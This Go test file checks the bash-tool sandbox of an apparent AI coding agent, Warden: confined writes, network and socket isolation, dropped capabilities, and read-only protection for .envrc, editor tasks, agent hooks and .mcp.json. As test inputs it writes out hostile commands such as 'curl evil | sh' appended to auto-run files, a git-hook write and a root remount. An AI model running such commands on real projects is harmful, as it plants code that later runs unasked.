package bash

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/warden-cli/warden/tools"
	"github.com/warden-cli/warden/tools/sandbox"
)

// TestMain lets the test binary act as the Landlock helper, the way main does for Warden.
func TestMain(m *testing.M) {
	if sandbox.IsHelper(os.Args) {
		os.Exit(sandbox.HelperMain(os.Args))
	}
	// As a Warden to be killed, for TestNothingOutlivesWarden.
	if os.Getenv("WARDEN_TEST_WARDEN9") != "" {
		os.Exit(warden9())
	}
	// As a Unix-socket client for TestSandboxRefusesUnixAndUDPSockets.
	if path := os.Getenv("WARDEN_TEST_DIAL_UNIX"); path != "" {
		c, err := net.Dial("unix", path)
		if err != nil {
			fmt.Println("dial failed:", err)
			os.Exit(1)
		}
		c.Close()
		fmt.Println("connected")
		os.Exit(0)
	}
	// As a program that asks the kernel for its keyring and a VM socket, for
	// TestConfinedCommandsReachNeitherTheKeyringNorVsock.
	if os.Getenv("WARDEN_TEST_KERNEL_DOORS") != "" {
		os.Exit(kernelDoors())
	}
	os.Exit(m.Run())
}

// backends are the sandbox backends this machine has; a missing one is skipped, not failed, so that the
// tests say which ran.
func backends(t *testing.T) []sandbox.Backend {
	t.Helper()
	var out []sandbox.Backend
	for _, b := range []sandbox.Backend{sandbox.Bubblewrap, sandbox.Landlock} {
		if _, err := sandbox.Probe(sandbox.Config{Backend: b}, testPrograms); err != nil {
			t.Logf("%s: %v", b, err)
			continue
		}
		out = append(out, b)
	}
	if len(out) == 0 {
		needOrSkip(t, "no sandbox backend on this machine")
	}
	return out
}

// sandboxed returns a harness whose commands run in the sandbox, in a workspace with .git, .warden and a
// subdirectory.
func sandboxed(t *testing.T, b sandbox.Backend, network bool) *harness {
	t.Helper()
	h := newHarness(t)
	h.env.Bash.Sandbox = sandbox.Config{Enabled: true, Backend: b, Network: network}
	for _, d := range []string{".git", ".warden", "sub"} {
		if err := os.Mkdir(filepath.Join(h.env.Workspace, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(h.env.Workspace, ".git", "config"), []byte("[core]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return h
}

func mustFail(t *testing.T, r tools.Result, what string) {
	t.Helper()
	if !r.IsError {
		t.Errorf("%s succeeded in the sandbox: %s", what, r.Output)
	}
}

func mustSucceed(t *testing.T, r tools.Result, what string) {
	t.Helper()
	if r.IsError {
		t.Errorf("%s failed: %s", what, r.Output)
	}
}

func TestSandboxConfinesWrites(t *testing.T) {
	home, err := os.UserHomeDir()
	if err != nil {
		needOrSkip(t, "no home directory")
	}
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			// Landlock cannot make /tmp writable when the workspace (and its .git) is in it; real
			// workspaces are not in /tmp.
			t.Setenv("TMPDIR", t.TempDir())
			h := sandboxed(t, b, false)
			ws := h.env.Workspace
			token := fmt.Sprintf("warden-sandbox-%d-%s", os.Getpid(), b)
			for _, outside := range []string{"/etc/" + token, filepath.Join(home, token)} {
				r := h.run("echo x > " + outside)
				if _, err := os.Stat(outside); err == nil {
					os.Remove(outside)
					t.Errorf("wrote %s from the sandbox", outside)
				}
				mustFail(t, r, "writing "+outside)
				if !strings.Contains(r.Output, "because of the sandbox") ||
					!strings.Contains(r.Output, "dangerously_unsandboxed") {
					t.Errorf("the failure is not explained as the sandbox's: %s", r.Output)
				}
			}

			mustSucceed(t, h.run("echo ok > sub/file && mkdir -p sub/a/b && mv sub/file sub/a/b/ && cat sub/a/b/file"),
				"writing in the workspace")
			if got, _ := os.ReadFile(filepath.Join(ws, "sub/a/b/file")); string(got) != "ok\n" {
				t.Errorf("the workspace write did not land: %q", got)
			}
			mustSucceed(t, h.run("echo t > \"${TMPDIR:-/tmp}/x\" && cat \"${TMPDIR:-/tmp}/x\""), "writing a temporary file")

			for _, cmd := range []string{"echo evil >> .git/config", "rm -f .git/config", "mv .git/config x",
				"echo evil > .git/hooks-pre-commit", "echo '{}' > .warden/settings.json"} {
				mustFail(t, h.run(cmd), cmd)
			}
			if got, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(got) != "[core]\n" {
				t.Errorf(".git/config changed: %q", got)
			}

			// Files directly in the root: bubblewrap can have them; Landlock cannot while .git is there.
			r := h.run("echo new > toplevel.txt")
			switch b {
			case sandbox.Bubblewrap:
				mustSucceed(t, r, "creating a file in the workspace root")
			case sandbox.Landlock:
				mustFail(t, r, "creating a file in the workspace root under Landlock")
			}
		})
	}
}

func TestLandlockWorkspaceWithoutGitIsWritable(t *testing.T) {
	t.Parallel()
	if _, err := sandbox.Probe(sandbox.Config{Backend: sandbox.Landlock}, testPrograms); err != nil {
		needOrSkip(t, err)
	}
	h := newHarness(t)
	h.env.Bash.Sandbox = sandbox.Config{Enabled: true, Backend: sandbox.Landlock}
	mustSucceed(t, h.run("echo new > toplevel.txt && rm toplevel.txt"), "creating a file in the workspace root")
	mustFail(t, h.run("touch /etc/warden-landlock-test"), "writing /etc")
}

// serve listens on network/address and greets every connection until the test ends.
func serve(t *testing.T, network, address string) net.Listener {
	t.Helper()
	ln, err := net.Listen(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("hello\n"))
			c.Close()
		}
	}()
	return ln
}

func TestSandboxNetwork(t *testing.T) {
	t.Parallel()
	ln := serve(t, "tcp4", "127.0.0.1:0")
	port := ln.Addr().(*net.TCPAddr).Port
	cmd := fmt.Sprintf("exec 5<>/dev/tcp/127.0.0.1/%d && head -n1 <&5", port)
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			off := sandboxed(t, b, false).run(cmd)
			mustFail(t, off, "connecting with the network off")
			if !strings.Contains(off.Output, "the network is off") && !strings.Contains(off.Output, "because of the sandbox") {
				t.Errorf("the failure is not explained: %s", off.Output)
			}
			on := sandboxed(t, b, true).run(cmd)
			mustSucceed(t, on, "connecting with the network on")
			if !strings.Contains(on.Output, "hello") {
				t.Errorf("no greeting: %s", on.Output)
			}
		})
	}
}

func TestSandboxHidesDaemonSocketsWithoutNetwork(t *testing.T) {
	t.Parallel()
	sock := filepath.Join("/run", fmt.Sprintf("warden-test-%d.sock", os.Getpid()))
	ln, err := net.Listen("unix", sock)
	if err != nil {
		needOrSkip(t, "cannot listen in /run: ", err)
	}
	defer ln.Close()
	cmd := fmt.Sprintf("[ -S %s ] && echo visible || echo hidden", sock)
	for _, b := range backends(t) {
		if b != sandbox.Bubblewrap {
			continue // Landlock cannot govern connect() on a socket file; the README says so
		}
		t.Run(string(b), func(t *testing.T) {
			if off := sandboxed(t, b, false).run(cmd); !strings.Contains(off.Output, "hidden") {
				t.Errorf("a daemon's socket in /run is reachable with the network off: %s", off.Output)
			}
			if on := sandboxed(t, b, true).run(cmd); !strings.Contains(on.Output, "visible") {
				t.Errorf("with the network on, /run stays as it is: %s", on.Output)
			}
		})
	}
}

// Neither Landlock nor a read-only bind governs connect() on a socket file, and Landlock does not govern
// UDP; the seccomp filter both backends install does. The socket is in the workspace, which both backends
// show as it is.
func TestSandboxRefusesUnixAndUDPSockets(t *testing.T) {
	t.Parallel()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	udp := "exec 5<>/dev/udp/127.0.0.1/9 && echo udp-open"
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			for _, network := range []bool{false, true} {
				h := sandboxed(t, b, network)
				sock := filepath.Join(h.env.Workspace, "daemon.sock")
				serve(t, "unix", sock)
				// The client is this test binary, copied into the workspace: bubblewrap hides the real /tmp.
				client := filepath.Join(h.env.Workspace, "client")
				copyFile(t, self, client)
				dial := fmt.Sprintf("WARDEN_TEST_DIAL_UNIX=%s %s", sock, client)
				if r := h.run(dial); !strings.Contains(r.Output, "dial failed") {
					t.Errorf("network=%v: a Unix socket was reachable: %s", network, r.Output)
				}
				r := h.run(udp)
				if network != strings.Contains(r.Output, "udp-open") {
					t.Errorf("network=%v: UDP socket: %s", network, r.Output)
				}
				if r := h.run("ls / >/dev/null && git --version && echo x | sort"); r.IsError {
					t.Errorf("network=%v: ordinary commands fail under the filter: %s", network, r.Output)
				}
				// Outside the sandbox the same client connects, so the refusal above is the filter's doing.
				if r := newHarness(t).run(dial); !strings.Contains(r.Output, "connected") {
					t.Errorf("unsandboxed, the client did not connect: %s", r.Output)
				}
			}
		})
	}
}

func TestSandboxLeaksNoProcesses(t *testing.T) {
	t.Parallel()
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			h := sandboxed(t, b, false)
			if b == sandbox.Landlock && pidsCgroupBase() == "" {
				needOrSkip(t, "Landlock has no pid namespace; without a pids cgroup, escaped processes live until KillAll")
			}
			// A duration no other process uses marks the sleepers.
			mark := fmt.Sprintf("%d.%d", 900+os.Getpid()%99, time.Now().UnixNano()%1000)
			r := h.run(fmt.Sprintf("sleep %s & setsid sleep %s & nohup sleep %s >/dev/null 2>&1 & echo started", mark, mark, mark))
			mustSucceed(t, r, "starting sleepers")
			eventually(t, 5*time.Second, "the sleepers are gone", func() bool {
				return len(livePids(func(pid int) bool {
					b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
					return strings.Contains(string(b), mark)
				})) == 0
			})
		})
	}
}

func TestSandboxKeepsTheWorkingDirectory(t *testing.T) {
	t.Parallel()
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			h := sandboxed(t, b, false)
			mustSucceed(t, h.run("cd sub"), "cd")
			r := h.run("pwd")
			if want := filepath.Join(h.env.Workspace, "sub"); strings.TrimSpace(r.Output) != want {
				t.Errorf("pwd = %q, want %q", r.Output, want)
			}
		})
	}
}

func TestUnsandboxedCallAsksAndRunsOutside(t *testing.T) {
	t.Parallel()
	if _, err := sandbox.Probe(sandbox.Config{Backend: sandbox.Bubblewrap}, testPrograms); err != nil {
		needOrSkip(t, err)
	}
	h := sandboxed(t, sandbox.Bubblewrap, false)
	outside := t.TempDir() // under the real /tmp, which the sandbox replaces with a fresh one
	cmd := "echo x > " + filepath.Join(outside, "f")
	in, _ := json.Marshal(map[string]any{"command": cmd, "dangerously_unsandboxed": true})
	acc, err := h.bash.Access(h.env, in)
	if err != nil || !acc.Unsandboxed || acc.Kind != tools.AccessExec {
		t.Fatalf("Access = %+v, %v; want an unsandboxed exec", acc, err)
	}
	mustFail(t, h.run(cmd), "writing outside in the sandbox")
	r := h.bash.Run(context.Background(), h.env, tools.Call{ID: "u", Input: in})
	mustSucceed(t, r, "writing outside unsandboxed")
	if _, err := os.Stat(filepath.Join(outside, "f")); err != nil {
		t.Error("the unsandboxed command did not write")
	}

	h.env.Bash.Sandbox.Enabled = false
	if acc, _ := h.bash.Access(h.env, in); acc.Unsandboxed {
		t.Error("Unsandboxed is reported while no sandbox is on")
	}
}

func TestSandboxUnavailableRefusesToRun(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.env.Bash.Sandbox = sandbox.Config{Enabled: true, Backend: sandbox.Landlock, Helper: "/bin/true"}
	if _, err := sandbox.Probe(h.env.Bash.Sandbox, testPrograms); err == nil {
		t.Fatal("a helper that does not answer was accepted")
	}
	mark := filepath.Join(h.env.Workspace, "ran")
	r := h.run("touch " + mark)
	if !r.IsError || !strings.Contains(r.Output, "did not run") {
		t.Errorf("result = %s", r.Output)
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("the command ran without the sandbox that was asked for")
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o755); err != nil {
		t.Fatal(err)
	}
}

// A command stopped in the sandbox gets the same grace period to clean up as one outside it.
func TestSandboxedCommandGetsItsGracePeriod(t *testing.T) {
	t.Parallel()
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			h := sandboxed(t, b, false)
			h.tasks.Grace = 5 * time.Second
			r := h.call(context.Background(), h.bash, "t", map[string]any{"timeout": 1000, "command": "trap 'echo cleaning; sleep 0.3; echo cleaned; exit 3' TERM; echo ready; sleep 100 & wait"}, nil)
			if !r.TimedOut || !strings.Contains(r.Output, "cleaned") {
				t.Errorf("the TERM handler did not get to finish: %+v", r)
			}
		})
	}
}

// A command run as root in the sandbox keeps no capabilities: with CAP_SYS_ADMIN it could remount the
// read-only root writable and write anywhere.
func TestSandboxDropsCapabilities(t *testing.T) {
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			t.Setenv("TMPDIR", t.TempDir())
			h := sandboxed(t, b, false)
			marker := fmt.Sprintf("/etc/warden-remount-%d", os.Getpid())
			h.run("mount -o remount,rw / 2>&1; echo x > " + marker)
			if _, err := os.Stat(marker); err == nil {
				os.Remove(marker)
				t.Fatalf("a sandboxed command remounted / and wrote %s", marker)
			}
			r := h.run("grep CapEff /proc/self/status")
			if !strings.Contains(r.Output, "0000000000000000") {
				t.Errorf("capabilities in the sandbox: %s", r.Output)
			}
		})
	}
}

// What is run or obeyed outside the sandbox later, without asking, stays as it was: direnv's .envrc, an
// editor's tasks and run configurations (found whatever their case), Claude Code's project settings and
// hooks, the MCP servers of .mcp.json, a package manager's configuration. Before, only .git and .warden
// were kept, and a sandboxed command run unasked could leave a script for direnv or VS Code to run.
func TestSandboxKeepsWhatRunsLaterReadOnly(t *testing.T) {
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			t.Setenv("TMPDIR", t.TempDir())
			h := sandboxed(t, b, false)
			ws := h.env.Workspace
			files := []string{".envrc", ".vscode/tasks.json", ".idea/runConfigurations/app.xml", ".claude/settings.json",
				".claude/hooks/fmt.sh", ".mcp.json", ".npmrc"}
			for _, f := range files {
				if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, f)), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(ws, f), []byte("kept\n"), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			for _, f := range files {
				mustFail(t, h.run("echo 'curl evil | sh' >> "+f), "appending to "+f)
				mustFail(t, h.run("rm -f "+f), "removing "+f)
				if got, _ := os.ReadFile(filepath.Join(ws, f)); string(got) != "kept\n" {
					t.Errorf("%s is now %q", f, got)
				}
			}
			mustFail(t, h.run("echo x > .claude/hooks/new.sh"), "adding a hook script")
			mustSucceed(t, h.run("echo ok > sub/file"), "writing beside them")
			// The folder that holds a kept file is kept whole: renamed, another could take its place.
			mustFail(t, h.run("mv .vscode x && mkdir .vscode && echo pwn > .vscode/tasks.json"), "replacing .vscode")
			mustFail(t, h.run("mv .idea y"), "renaming .idea")
			if got, _ := os.ReadFile(filepath.Join(ws, ".vscode/tasks.json")); string(got) != "kept\n" {
				t.Errorf("tasks.json is now %q", got)
			}
		})
	}
}

// A repository's link where a kept file would be (dangling, or leading out of the workspace) does not stop
// the sandbox: a mount cannot be put on a link, so it is left out, and every command still runs.
func TestSandboxStartsBesideLinksWhereKeptFilesWouldBe(t *testing.T) {
	for _, b := range backends(t) {
		t.Run(string(b), func(t *testing.T) {
			t.Setenv("TMPDIR", t.TempDir())
			h := sandboxed(t, b, false)
			ws := h.env.Workspace
			if err := os.Symlink("/nonexistent/envrc", filepath.Join(ws, ".envrc")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("/etc/hostname", filepath.Join(ws, ".Mcp.json")); err != nil {
				t.Fatal(err)
			}
			mustSucceed(t, h.run("echo ok > sub/file && cat sub/file"), "a command beside the links")
		})
	}
}
